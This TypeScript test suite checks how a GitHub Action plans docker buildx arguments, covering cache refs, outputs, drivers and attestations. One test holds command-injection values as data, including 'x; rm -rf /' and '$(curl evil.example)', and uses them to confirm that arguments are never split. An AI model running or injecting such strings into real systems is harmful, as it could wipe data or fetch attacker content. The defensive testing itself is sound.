import { Input, type InputName } from '../../src/constants.js';
import type { RunContext } from '../../src/github/run-context.js';
import { parseInputs, type Inputs } from '../../src/inputs/parse.js';
import { planBuildArgs, type BuildFiles, type BuildInputs } from '../../src/buildx/build-args.js';
import { makePlan, type LayerCachePlan } from '../../src/buildx/plan.js';
import { parseDockerfile } from '../../src/dockerfile/model.js';
import { planListing } from '../../src/image/listing-plan.js';

const files: BuildFiles = {
  metadataFile: '/tmp/dfb/metadata.json',
  imageIdFile: '/tmp/dfb/iid',
  secretSpecs: ['id=token,src=/tmp/dfb/secrets/token'],
};

const noCache: LayerCachePlan = {
  kind: 'none',
  readRefs: [],
  writeRef: undefined,
  cacheFrom: [],
  cacheTo: [],
};

function buildInputs(overrides: Partial<BuildInputs> = {}): BuildInputs {
  return {
    context: '.',
    file: '',
    tags: [],
    push: false,
    load: false,
    platforms: [],
    buildArgs: [],
    target: '',
    labels: [],
    network: '',
    ...overrides,
  };
}

function inputs(values: Partial<Record<InputName, string>>): Inputs {
  return parseInputs((name) => values[name] ?? '', { adviceRules: [] });
}

function planFacts() {
  return {
    run: runContext(),
    newBuilderName: 'b',
    files,
    driver: 'docker-container' as const,
    containerdStore: true,
    layoutDir: '/tmp/dfb/layout',
    privateRepository: false,
    noDefaultAttestations: false,
  };
}

function runContext(overrides: Partial<RunContext> = {}): RunContext {
  return {
    eventName: 'push',
    ref: 'refs/heads/main',
    branch: 'main',
    baseBranch: '',
    defaultBranch: 'main',
    pullRequestNumber: undefined,
    isForkPullRequest: false,
    repository: 'org/app',
    runId: '1234',
    runAttempt: '1',
    sha: 'a'.repeat(40),
    headSha: 'a'.repeat(40),
    serverUrl: 'https://github.com',
    labels: [],
    workspace: '/srv/workspace/app',
    workflow: 'CI',
    runnerArch: 'X64',
    runnerTemp: '/srv/runner/temp',
    stableTemp: '/srv/runner/temp',
    stepSummaryFile: '',
    workflowRun: undefined,
    ...overrides,
  };
}

describe('planBuildArgs', () => {
  it('builds the exact argv for a full set of inputs', () => {
    const layerCache: LayerCachePlan = {
      kind: 'registry',
      readRefs: ['ghcr.io/org/app:buildcache-feature-a', 'ghcr.io/org/app:buildcache-main'],
      writeRef: 'ghcr.io/org/app:buildcache-feature-a',
      cacheFrom: [
        'type=registry,ref=ghcr.io/org/app:buildcache-feature-a',
        'type=registry,ref=ghcr.io/org/app:buildcache-main',
      ],
      cacheTo: ['type=registry,ref=ghcr.io/org/app:buildcache-feature-a,mode=max,ignore-error=true'],
    };
    const args = planBuildArgs(
      buildInputs({
        context: 'app',
        file: 'app/Dockerfile.prod',
        tags: ['ghcr.io/org/app:1.0', 'ghcr.io/org/app:latest'],
        push: true,
        load: true,
        platforms: ['linux/amd64', 'linux/arm64'],
        buildArgs: ['PYTHON=3.12', 'EXTRAS=dev,test'],
        target: 'runtime',
        labels: ['org.opencontainers.image.source=https://github.com/org/app'],
        network: 'host',
      }),
      'dfb-1234-1',
      layerCache,
      files,
    );
    expect(args).toEqual([
      'build',
      '--builder',
      'dfb-1234-1',
      '--progress',
      'rawjson',
      '--file',
      'app/Dockerfile.prod',
      '--iidfile',
      '/tmp/dfb/iid',
      '--metadata-file',
      '/tmp/dfb/metadata.json',
      '--tag',
      'ghcr.io/org/app:1.0',
      '--tag',
      'ghcr.io/org/app:latest',
      '--platform',
      'linux/amd64,linux/arm64',
      '--build-arg',
      'PYTHON=3.12',
      '--build-arg',
      'EXTRAS=dev,test',
      '--label',
      'org.opencontainers.image.source=https://github.com/org/app',
      '--secret',
      'id=token,src=/tmp/dfb/secrets/token',
      '--target',
      'runtime',
      '--network',
      'host',
      '--cache-from',
      'type=registry,ref=ghcr.io/org/app:buildcache-feature-a',
      '--cache-from',
      'type=registry,ref=ghcr.io/org/app:buildcache-main',
      '--cache-to',
      'type=registry,ref=ghcr.io/org/app:buildcache-feature-a,mode=max,ignore-error=true',
      '--push',
      '--load',
      'app',
    ]);
  });

  it('keeps hostile values as single array items, never split', () => {
    const hostile = [
      'A=has spaces in it',
      'B=x; rm -rf /',
      'C=$(curl evil.example)',
      'D=`id`',
      'E=line one\nline two',
      'F=\'quoted\' "double"',
    ];
    const context = 'dir with spaces; $(echo)';
    const args = planBuildArgs(
      buildInputs({ context, buildArgs: hostile, labels: ['note=a b;c'], target: 't $(x)' }),
      'builder',
      noCache,
      { ...files, secretSpecs: [] },
    );
    for (const value of hostile) {
      const at = args.indexOf(value);
      expect(at).toBeGreaterThan(0);
      expect(args[at - 1]).toBe('--build-arg');
    }
    expect(args.filter((a) => a === '--build-arg')).toHaveLength(hostile.length);
    expect(args).toContain('note=a b;c');
    expect(args[args.indexOf('--target') + 1]).toBe('t $(x)');
    expect(args.at(-1)).toBe(context);
    expect(args).not.toContain('rm');
    expect(args).not.toContain('line two');
  });

  it('adds neither --push nor --load unless asked', () => {
    const args = planBuildArgs(buildInputs(), 'builder', noCache, files);
    expect(args).not.toContain('--push');
    expect(args).not.toContain('--load');
    expect(args).not.toContain('--platform');
    expect(args).not.toContain('--target');
    expect(args).not.toContain('--network');
    expect(args).not.toContain('--cache-from');
    expect(args).not.toContain('--cache-to');
  });

  it('adds only --load when only load is asked', () => {
    const args = planBuildArgs(buildInputs({ load: true }), 'builder', noCache, files);
    expect(args).toContain('--load');
    expect(args).not.toContain('--push');
  });

  it('joins platforms with a comma into one --platform', () => {
    const args = planBuildArgs(
      buildInputs({ platforms: ['linux/amd64', 'linux/arm64', 'linux/arm/v7'] }),
      'builder',
      noCache,
      files,
    );
    expect(args.filter((a) => a === '--platform')).toHaveLength(1);
    expect(args[args.indexOf('--platform') + 1]).toBe('linux/amd64,linux/arm64,linux/arm/v7');
  });

  it('puts the context last', () => {
    const args = planBuildArgs(buildInputs({ context: './src/app', push: true }), 'b', noCache, files);
    expect(args.at(-1)).toBe('./src/app');
  });
});

describe('makePlan', () => {
  it('plans builder, layer cache and argv from inputs and the run', () => {
    const plan = makePlan(
      inputs({
        [Input.Image]: 'ghcr.io/org/app',
        [Input.Tags]: 'ghcr.io/org/app:pr-5',
        [Input.Context]: 'app',
      }),
      {
        run: runContext({
          eventName: 'pull_request',
          branch: 'feature/a',
          baseBranch: 'release',
          pullRequestNumber: 5,
        }),
        newBuilderName: 'dfb-1234-1',
        files,
        driver: 'docker-container',
        containerdStore: true,
        layoutDir: '/tmp/dfb/layout',
        privateRepository: false,
        noDefaultAttestations: false,
      },
    );
    expect(plan.builder).toEqual({
      name: 'dfb-1234-1',
      driver: 'docker-container',
      createArgs: ['create', '--name', 'dfb-1234-1', '--driver', 'docker-container', '--bootstrap'],
      removeAfterRun: true,
      outlivesJob: false,
      readyBeforeBuild: true,
      startsEmpty: true,
    });
    expect(plan.layerCache.readRefs).toEqual([
      'ghcr.io/org/app:buildcache-feature-a',
      'ghcr.io/org/app:buildcache-release',
      'ghcr.io/org/app:buildcache-main',
    ]);
    expect(plan.layerCache.writeRef).toBe('ghcr.io/org/app:buildcache-feature-a');
    expect(plan.buildArgs.slice(0, 3)).toEqual(['build', '--builder', 'dfb-1234-1']);
    expect(plan.buildArgs).toContain('app/Dockerfile');
    expect(plan.buildArgs.filter((a) => a === '--cache-from')).toHaveLength(3);
    expect(plan.buildArgs.at(-1)).toBe('app');
  });

  it('prefers layer-cache-repository over image for the cache tags', () => {
    const plan = makePlan(
      inputs({ [Input.Image]: 'ghcr.io/org/app', [Input.LayerCacheRepository]: 'ghcr.io/org/app-cache' }),
      { ...planFacts(), run: runContext() },
    );
    expect(plan.layerCache.writeRef).toBe('ghcr.io/org/app-cache:buildcache-main');
  });

  it('falls back to the default branch the run context read from the event', () => {
    const plan = (defaultBranch: string) =>
      makePlan(inputs({ [Input.LayerCache]: 'gha' }), {
        run: runContext({ branch: 'feature/a', defaultBranch }),
        newBuilderName: 'b',
        files,
        driver: 'docker-container',
        containerdStore: true,
        layoutDir: '/tmp/dfb/layout',
        privateRepository: false,
        noDefaultAttestations: false,
      });
    expect(plan('develop').layerCache.readRefs).toEqual(['buildcache-feature-a', 'buildcache-develop']);
    expect(plan('trunk').layerCache.readRefs).toEqual(['buildcache-feature-a', 'buildcache-trunk']);
    expect(plan('main').layerCache.readRefs).toEqual(['buildcache-feature-a', 'buildcache-main']);
  });

  it('uses the docker driver builder name in the argv', () => {
    const plan = makePlan(inputs({ [Input.Driver]: 'docker', [Input.LayerCache]: 'none' }), {
      ...planFacts(),
      newBuilderName: 'unused',
      driver: 'docker',
    });
    expect(plan.builder.createArgs).toBeUndefined();
    expect(plan.buildArgs.slice(0, 3)).toEqual(['build', '--builder', 'default']);
    expect(plan.buildArgs).not.toContain('--cache-from');
  });
});

describe('makePlan: outputs', () => {
  const plan = (
    values: Partial<Record<InputName, string>>,
    facts: Partial<Parameters<typeof makePlan>[1]> = {},
  ) => makePlan(inputs({ [Input.LayerCache]: 'none', ...values }), { ...planFacts(), ...facts });
  const layoutOutput = 'type=oci,tar=false,dest=/tmp/dfb/layout';

  it('never loads into the engine what the user did not ask for, on any driver but docker', () => {
    for (const driver of ['docker-container', 'remote', 'kubernetes'] as const) {
      const planned = plan({ [Input.Push]: 'true' }, { driver });
      expect(planned.buildArgs).not.toContain('--load');
      expect(planned.imageIsLocal).toBe(false);
      expect(planned.layoutDir).toBe('/tmp/dfb/layout');
      expect(planned.buildArgs).toEqual(expect.arrayContaining(['--output', layoutOutput]));
    }
    expect(plan({ [Input.Load]: 'true' }, { driver: 'remote' }).buildArgs).toContain('--load');
    expect(plan({ [Input.Load]: 'true' }, { driver: 'remote' }).imageIsLocal).toBe(true);
  });

  it('keeps the docker driver image in the engine when a layout output is added', () => {
    const local = plan({}, { driver: 'docker', containerdStore: true });
    expect(local.buildArgs).toEqual(expect.arrayContaining(['--load', '--output', layoutOutput]));
    expect(local.imageIsLocal).toBe(true);
    const pushed = plan({ [Input.Push]: 'true' }, { driver: 'docker', containerdStore: true });
    expect(pushed.buildArgs).toContain('--push');
    expect(pushed.buildArgs).not.toContain('--load');
  });

  it('writes no layout with the docker driver on an engine without the containerd store', () => {
    const classic = plan({}, { driver: 'docker', containerdStore: false });
    expect(classic.layoutDir).toBeUndefined();
    expect(classic.buildArgs).not.toContain('--output');
    expect(classic.buildArgs).not.toContain('--load');
    expect(classic.imageIsLocal).toBe(true);
  });

  it('writes no layout for a multi-platform image, which has no single size', () => {
    const multi = plan({ [Input.Platforms]: 'linux/amd64,linux/arm64', [Input.Push]: 'true' });
    expect(multi.layoutDir).toBeUndefined();
    expect(multi.buildArgs).not.toContain('--output');
    expect(multi.imageIsLocal).toBe(false);
  });

  it('keeps a user value that looks like an output flag as the value of its own flag', () => {
    const args = plan({ [Input.BuildArgs]: '--output=type=local' }).buildArgs;
    expect(args[args.indexOf('--output=type=local') - 1]).toBe('--build-arg');
    expect(args.filter((arg) => arg === '--output')).toHaveLength(1);
  });
});

describe('makePlan: explicit outputs, call and caches win over the plan', () => {
  const plan = (
    values: Partial<Record<InputName, string>>,
    facts: Partial<Parameters<typeof makePlan>[1]> = {},
  ) => makePlan(inputs({ [Input.LayerCache]: 'none', ...values }), { ...planFacts(), ...facts });
  const layoutOutput = 'type=oci,tar=false,dest=/tmp/dfb/layout';
  const outputsOf = (args: string[]) => args.flatMap((arg, i) => (arg === '--output' ? [args[i + 1]] : []));

  it('keeps the user’s outputs and adds the layout beside them, saying so', () => {
    const planned = plan({ [Input.Outputs]: 'type=local,dest=out' });
    expect(outputsOf(planned.buildArgs)).toEqual([layoutOutput, 'type=local,dest=out']);
    expect(planned.layoutDir).toBe('/tmp/dfb/layout');
    expect(planned.notes).toContain(
      'outputs: exported as given, with an OCI layout beside them for the size report',
    );
  });

  it('adds no --load for the docker driver when the user gave outputs, and no second export', () => {
    const planned = plan(
      { [Input.Outputs]: 'type=local,dest=out' },
      { driver: 'docker', containerdStore: true },
    );
    expect(planned.buildArgs).not.toContain('--load');
    expect(outputsOf(planned.buildArgs)).toEqual(['type=local,dest=out']);
    expect(planned.layoutDir).toBeUndefined();
    expect(planned.imageIsLocal).toBe(false);
  });

  it('knows a docker output puts the image in the engine', () => {
    expect(plan({ [Input.Outputs]: 'type=docker' }).imageIsLocal).toBe(true);
  });

  it('plans no layout and no measurement for a call that builds no image', () => {
    const planned = plan({ [Input.Call]: 'check' }, { driver: 'docker', containerdStore: true });
    expect(planned.layoutDir).toBeUndefined();
    expect(planned.buildArgs).not.toContain('--load');
    expect(planned.imageIsLocal).toBe(false);
    expect(planned.notes).toContain('call: check builds no image, so there is no size to report');
    expect(plan({ [Input.Call]: 'build' }).layoutDir).toBe('/tmp/dfb/layout');
  });

  it('puts explicit cache-from and cache-to in place of the planned layer cache', () => {
    const planned = makePlan(
      inputs({
        [Input.Image]: 'ghcr.io/org/app',
        [Input.CacheFrom]: 'type=gha',
        [Input.CacheTo]: 'type=gha,mode=max',
      }),
      planFacts(),
    );
    const flags = (flag: string) =>
      planned.buildArgs.flatMap((arg, i) => (arg === flag ? [planned.buildArgs[i + 1]] : []));
    expect(flags('--cache-from')).toEqual(['type=gha']);
    expect(flags('--cache-to')).toEqual(['type=gha,mode=max']);
    expect(planned.layerCache.writeRef).toBe('buildkit');
    expect(planned.notes[0]).toMatch(
      /^cache-from\/cache-to are set: they replace the planned registry layer cache/,
    );
  });

  it('adds build-push-action’s default provenance to a plain build', () => {
    expect(plan({}).buildArgs).toEqual(
      expect.arrayContaining([
        '--attest',
        'type=provenance,mode=max,builder-id=https://github.com/org/app/actions/runs/1234/attempts/1',
      ]),
    );
    expect(plan({}, { privateRepository: true }).buildArgs).toContain(
      'type=provenance,mode=min,inline-only=true,builder-id=https://github.com/org/app/actions/runs/1234/attempts/1',
    );
    expect(plan({}, { driver: 'docker', containerdStore: false }).buildArgs).not.toContain('--attest');
    expect(plan({ [Input.Load]: 'true' }).buildArgs).not.toContain('--attest');
  });
});

describe('makePlan: measuring without the OCI layout', () => {
  const listing = planListing(parseDockerfile('FROM python:3.11\nCOPY . /app\n'));

  it.each(['docker-container', 'remote', 'docker'] as const)(
    'on %s, reads a pushed image back from its registry instead of streaming a layout out of the builder',
    (driver) => {
      const plan = makePlan(
        inputs({ [Input.Tags]: 'reg.example/app:1\nreg.example/app:latest', [Input.Push]: 'true' }),
        {
          ...planFacts(),
          driver,
        },
      );
      expect(plan.pushedTo).toBe('reg.example/app:1');
      expect(plan.layoutDir).toBeUndefined();
      expect(plan.buildArgs.join(' ')).not.toContain('type=oci');
    },
  );

  it.each([
    ['an image not pushed', {}, {}],
    ['an image not pushed, on the docker driver', {}, { driver: 'docker' as const }],
    [
      'explicit outputs',
      { [Input.Push]: 'true', [Input.Outputs]: 'type=registry,name=reg.example/app:2' },
      {},
    ],
    ['a multi-platform image', { [Input.Push]: 'true', [Input.Platforms]: 'linux/amd64,linux/arm64' }, {}],
    ['the layout switch', { [Input.Push]: 'true' }, { forceLayout: true }],
  ])('reads nothing back from the registry for %s', (_what, values, facts) => {
    const plan = makePlan(inputs({ [Input.Tags]: 'reg.example/app:1', ...values }), {
      ...planFacts(),
      ...facts,
    });
    expect(plan.pushedTo).toBeUndefined();
  });

  describe('an image the docker driver keeps in the engine', () => {
    const dockerFacts = { ...planFacts(), driver: 'docker' as const };
    const image = { [Input.Image]: 'reg.example/app', [Input.Tags]: 'reg.example/app:1' };

    it('reads its layers back from the registry layer cache its cache export writes, with no layout beside', () => {
      const plan = makePlan(inputs(image), dockerFacts);
      expect(plan.cachedLayersFrom).toBe('reg.example/app:buildcache-main');
      expect(plan.cachedLayersFrom).toBe(plan.layerCache.writeRef);
      expect(plan.layoutDir).toBeUndefined();
      expect(plan.pushedTo).toBeUndefined();
      expect(plan.buildArgs.join(' ')).not.toContain('type=oci');
      // Without a layout output the driver's own exporter loads the image, as it always has.
      expect(plan.buildArgs).not.toContain('--output');
      expect(plan.imageIsLocal).toBe(true);
    });

    it.each([
      ['an engine without the containerd store', {}, { containerdStore: false }],
      ['a pushed image (read from where it was pushed)', { [Input.Push]: 'true' }, {}],
      ['a layer cache in the Actions cache', { [Input.LayerCache]: 'gha' }, {}],
      ['explicit cache-to', { [Input.CacheTo]: 'type=registry,ref=reg.example/other:c' }, {}],
      ['a run that writes no cache', {}, { readOnly: true }],
      ['explicit outputs', { [Input.Outputs]: 'type=docker' }, {}],
      ['a multi-platform image', { [Input.Platforms]: 'linux/amd64,linux/arm64' }, {}],
      ['the layout switch', {}, { forceLayout: true }],
      ['the listing switch', {}, { listing }],
    ])('does not for %s', (_what, values, facts) => {
      const plan = makePlan(inputs({ ...image, ...values }), { ...dockerFacts, ...facts });
      expect(plan.cachedLayersFrom).toBeUndefined();
    });

    it('is not planned on another driver, which has no engine to keep the image', () => {
      expect(makePlan(inputs(image), planFacts()).cachedLayersFrom).toBeUndefined();
    });
  });

  it('measures nothing of a multi-platform build, by either source', () => {
    const plan = makePlan(inputs({ [Input.Platforms]: 'linux/amd64,linux/arm64' }), {
      ...planFacts(),
      listing,
    });
    expect(plan.listing).toBeUndefined();
    expect(plan.layoutDir).toBeUndefined();
  });

  it.each(['docker-container', 'docker'] as const)(
    'on %s, passes no type=oci output and no --load of its own when the listing measures the image',
    (driver) => {
      const plan = makePlan(inputs({ [Input.Tags]: 'app:1' }), { ...planFacts(), driver, listing });
      expect(plan.layoutDir).toBeUndefined();
      expect(plan.listing?.snapshots).toHaveLength(2);
      expect(plan.buildArgs.join(' ')).not.toContain('type=oci');
      expect(plan.buildArgs).not.toContain('--load');
      expect(plan.imageIsLocal).toBe(driver === 'docker');
    },
  );

  it.each([
    [
      'a Dockerfile the splitter does not handle',
      {},
      planListing(parseDockerfile('FROM scratch\nCOPY app /app\n')),
      'the listing cannot split this Dockerfile (the image starts FROM scratch',
    ],
    [
      'explicit outputs',
      { [Input.Outputs]: 'type=image,name=app:1,push=true' },
      listing,
      'the listing needs the build record of an image, and outputs are given',
    ],
  ])('keeps the layout, and says why, for %s', (_, values, plannedListing, why) => {
    const plan = makePlan(inputs(values), { ...planFacts(), listing: plannedListing });
    expect(plan.listing).toBeUndefined();
    expect(plan.notes.join('\n')).toContain(`The image is measured from an OCI layout: ${why}`);
    expect(plan.buildArgs.join(' ')).toContain('type=oci,tar=false,dest=/tmp/dfb/layout');
  });
});
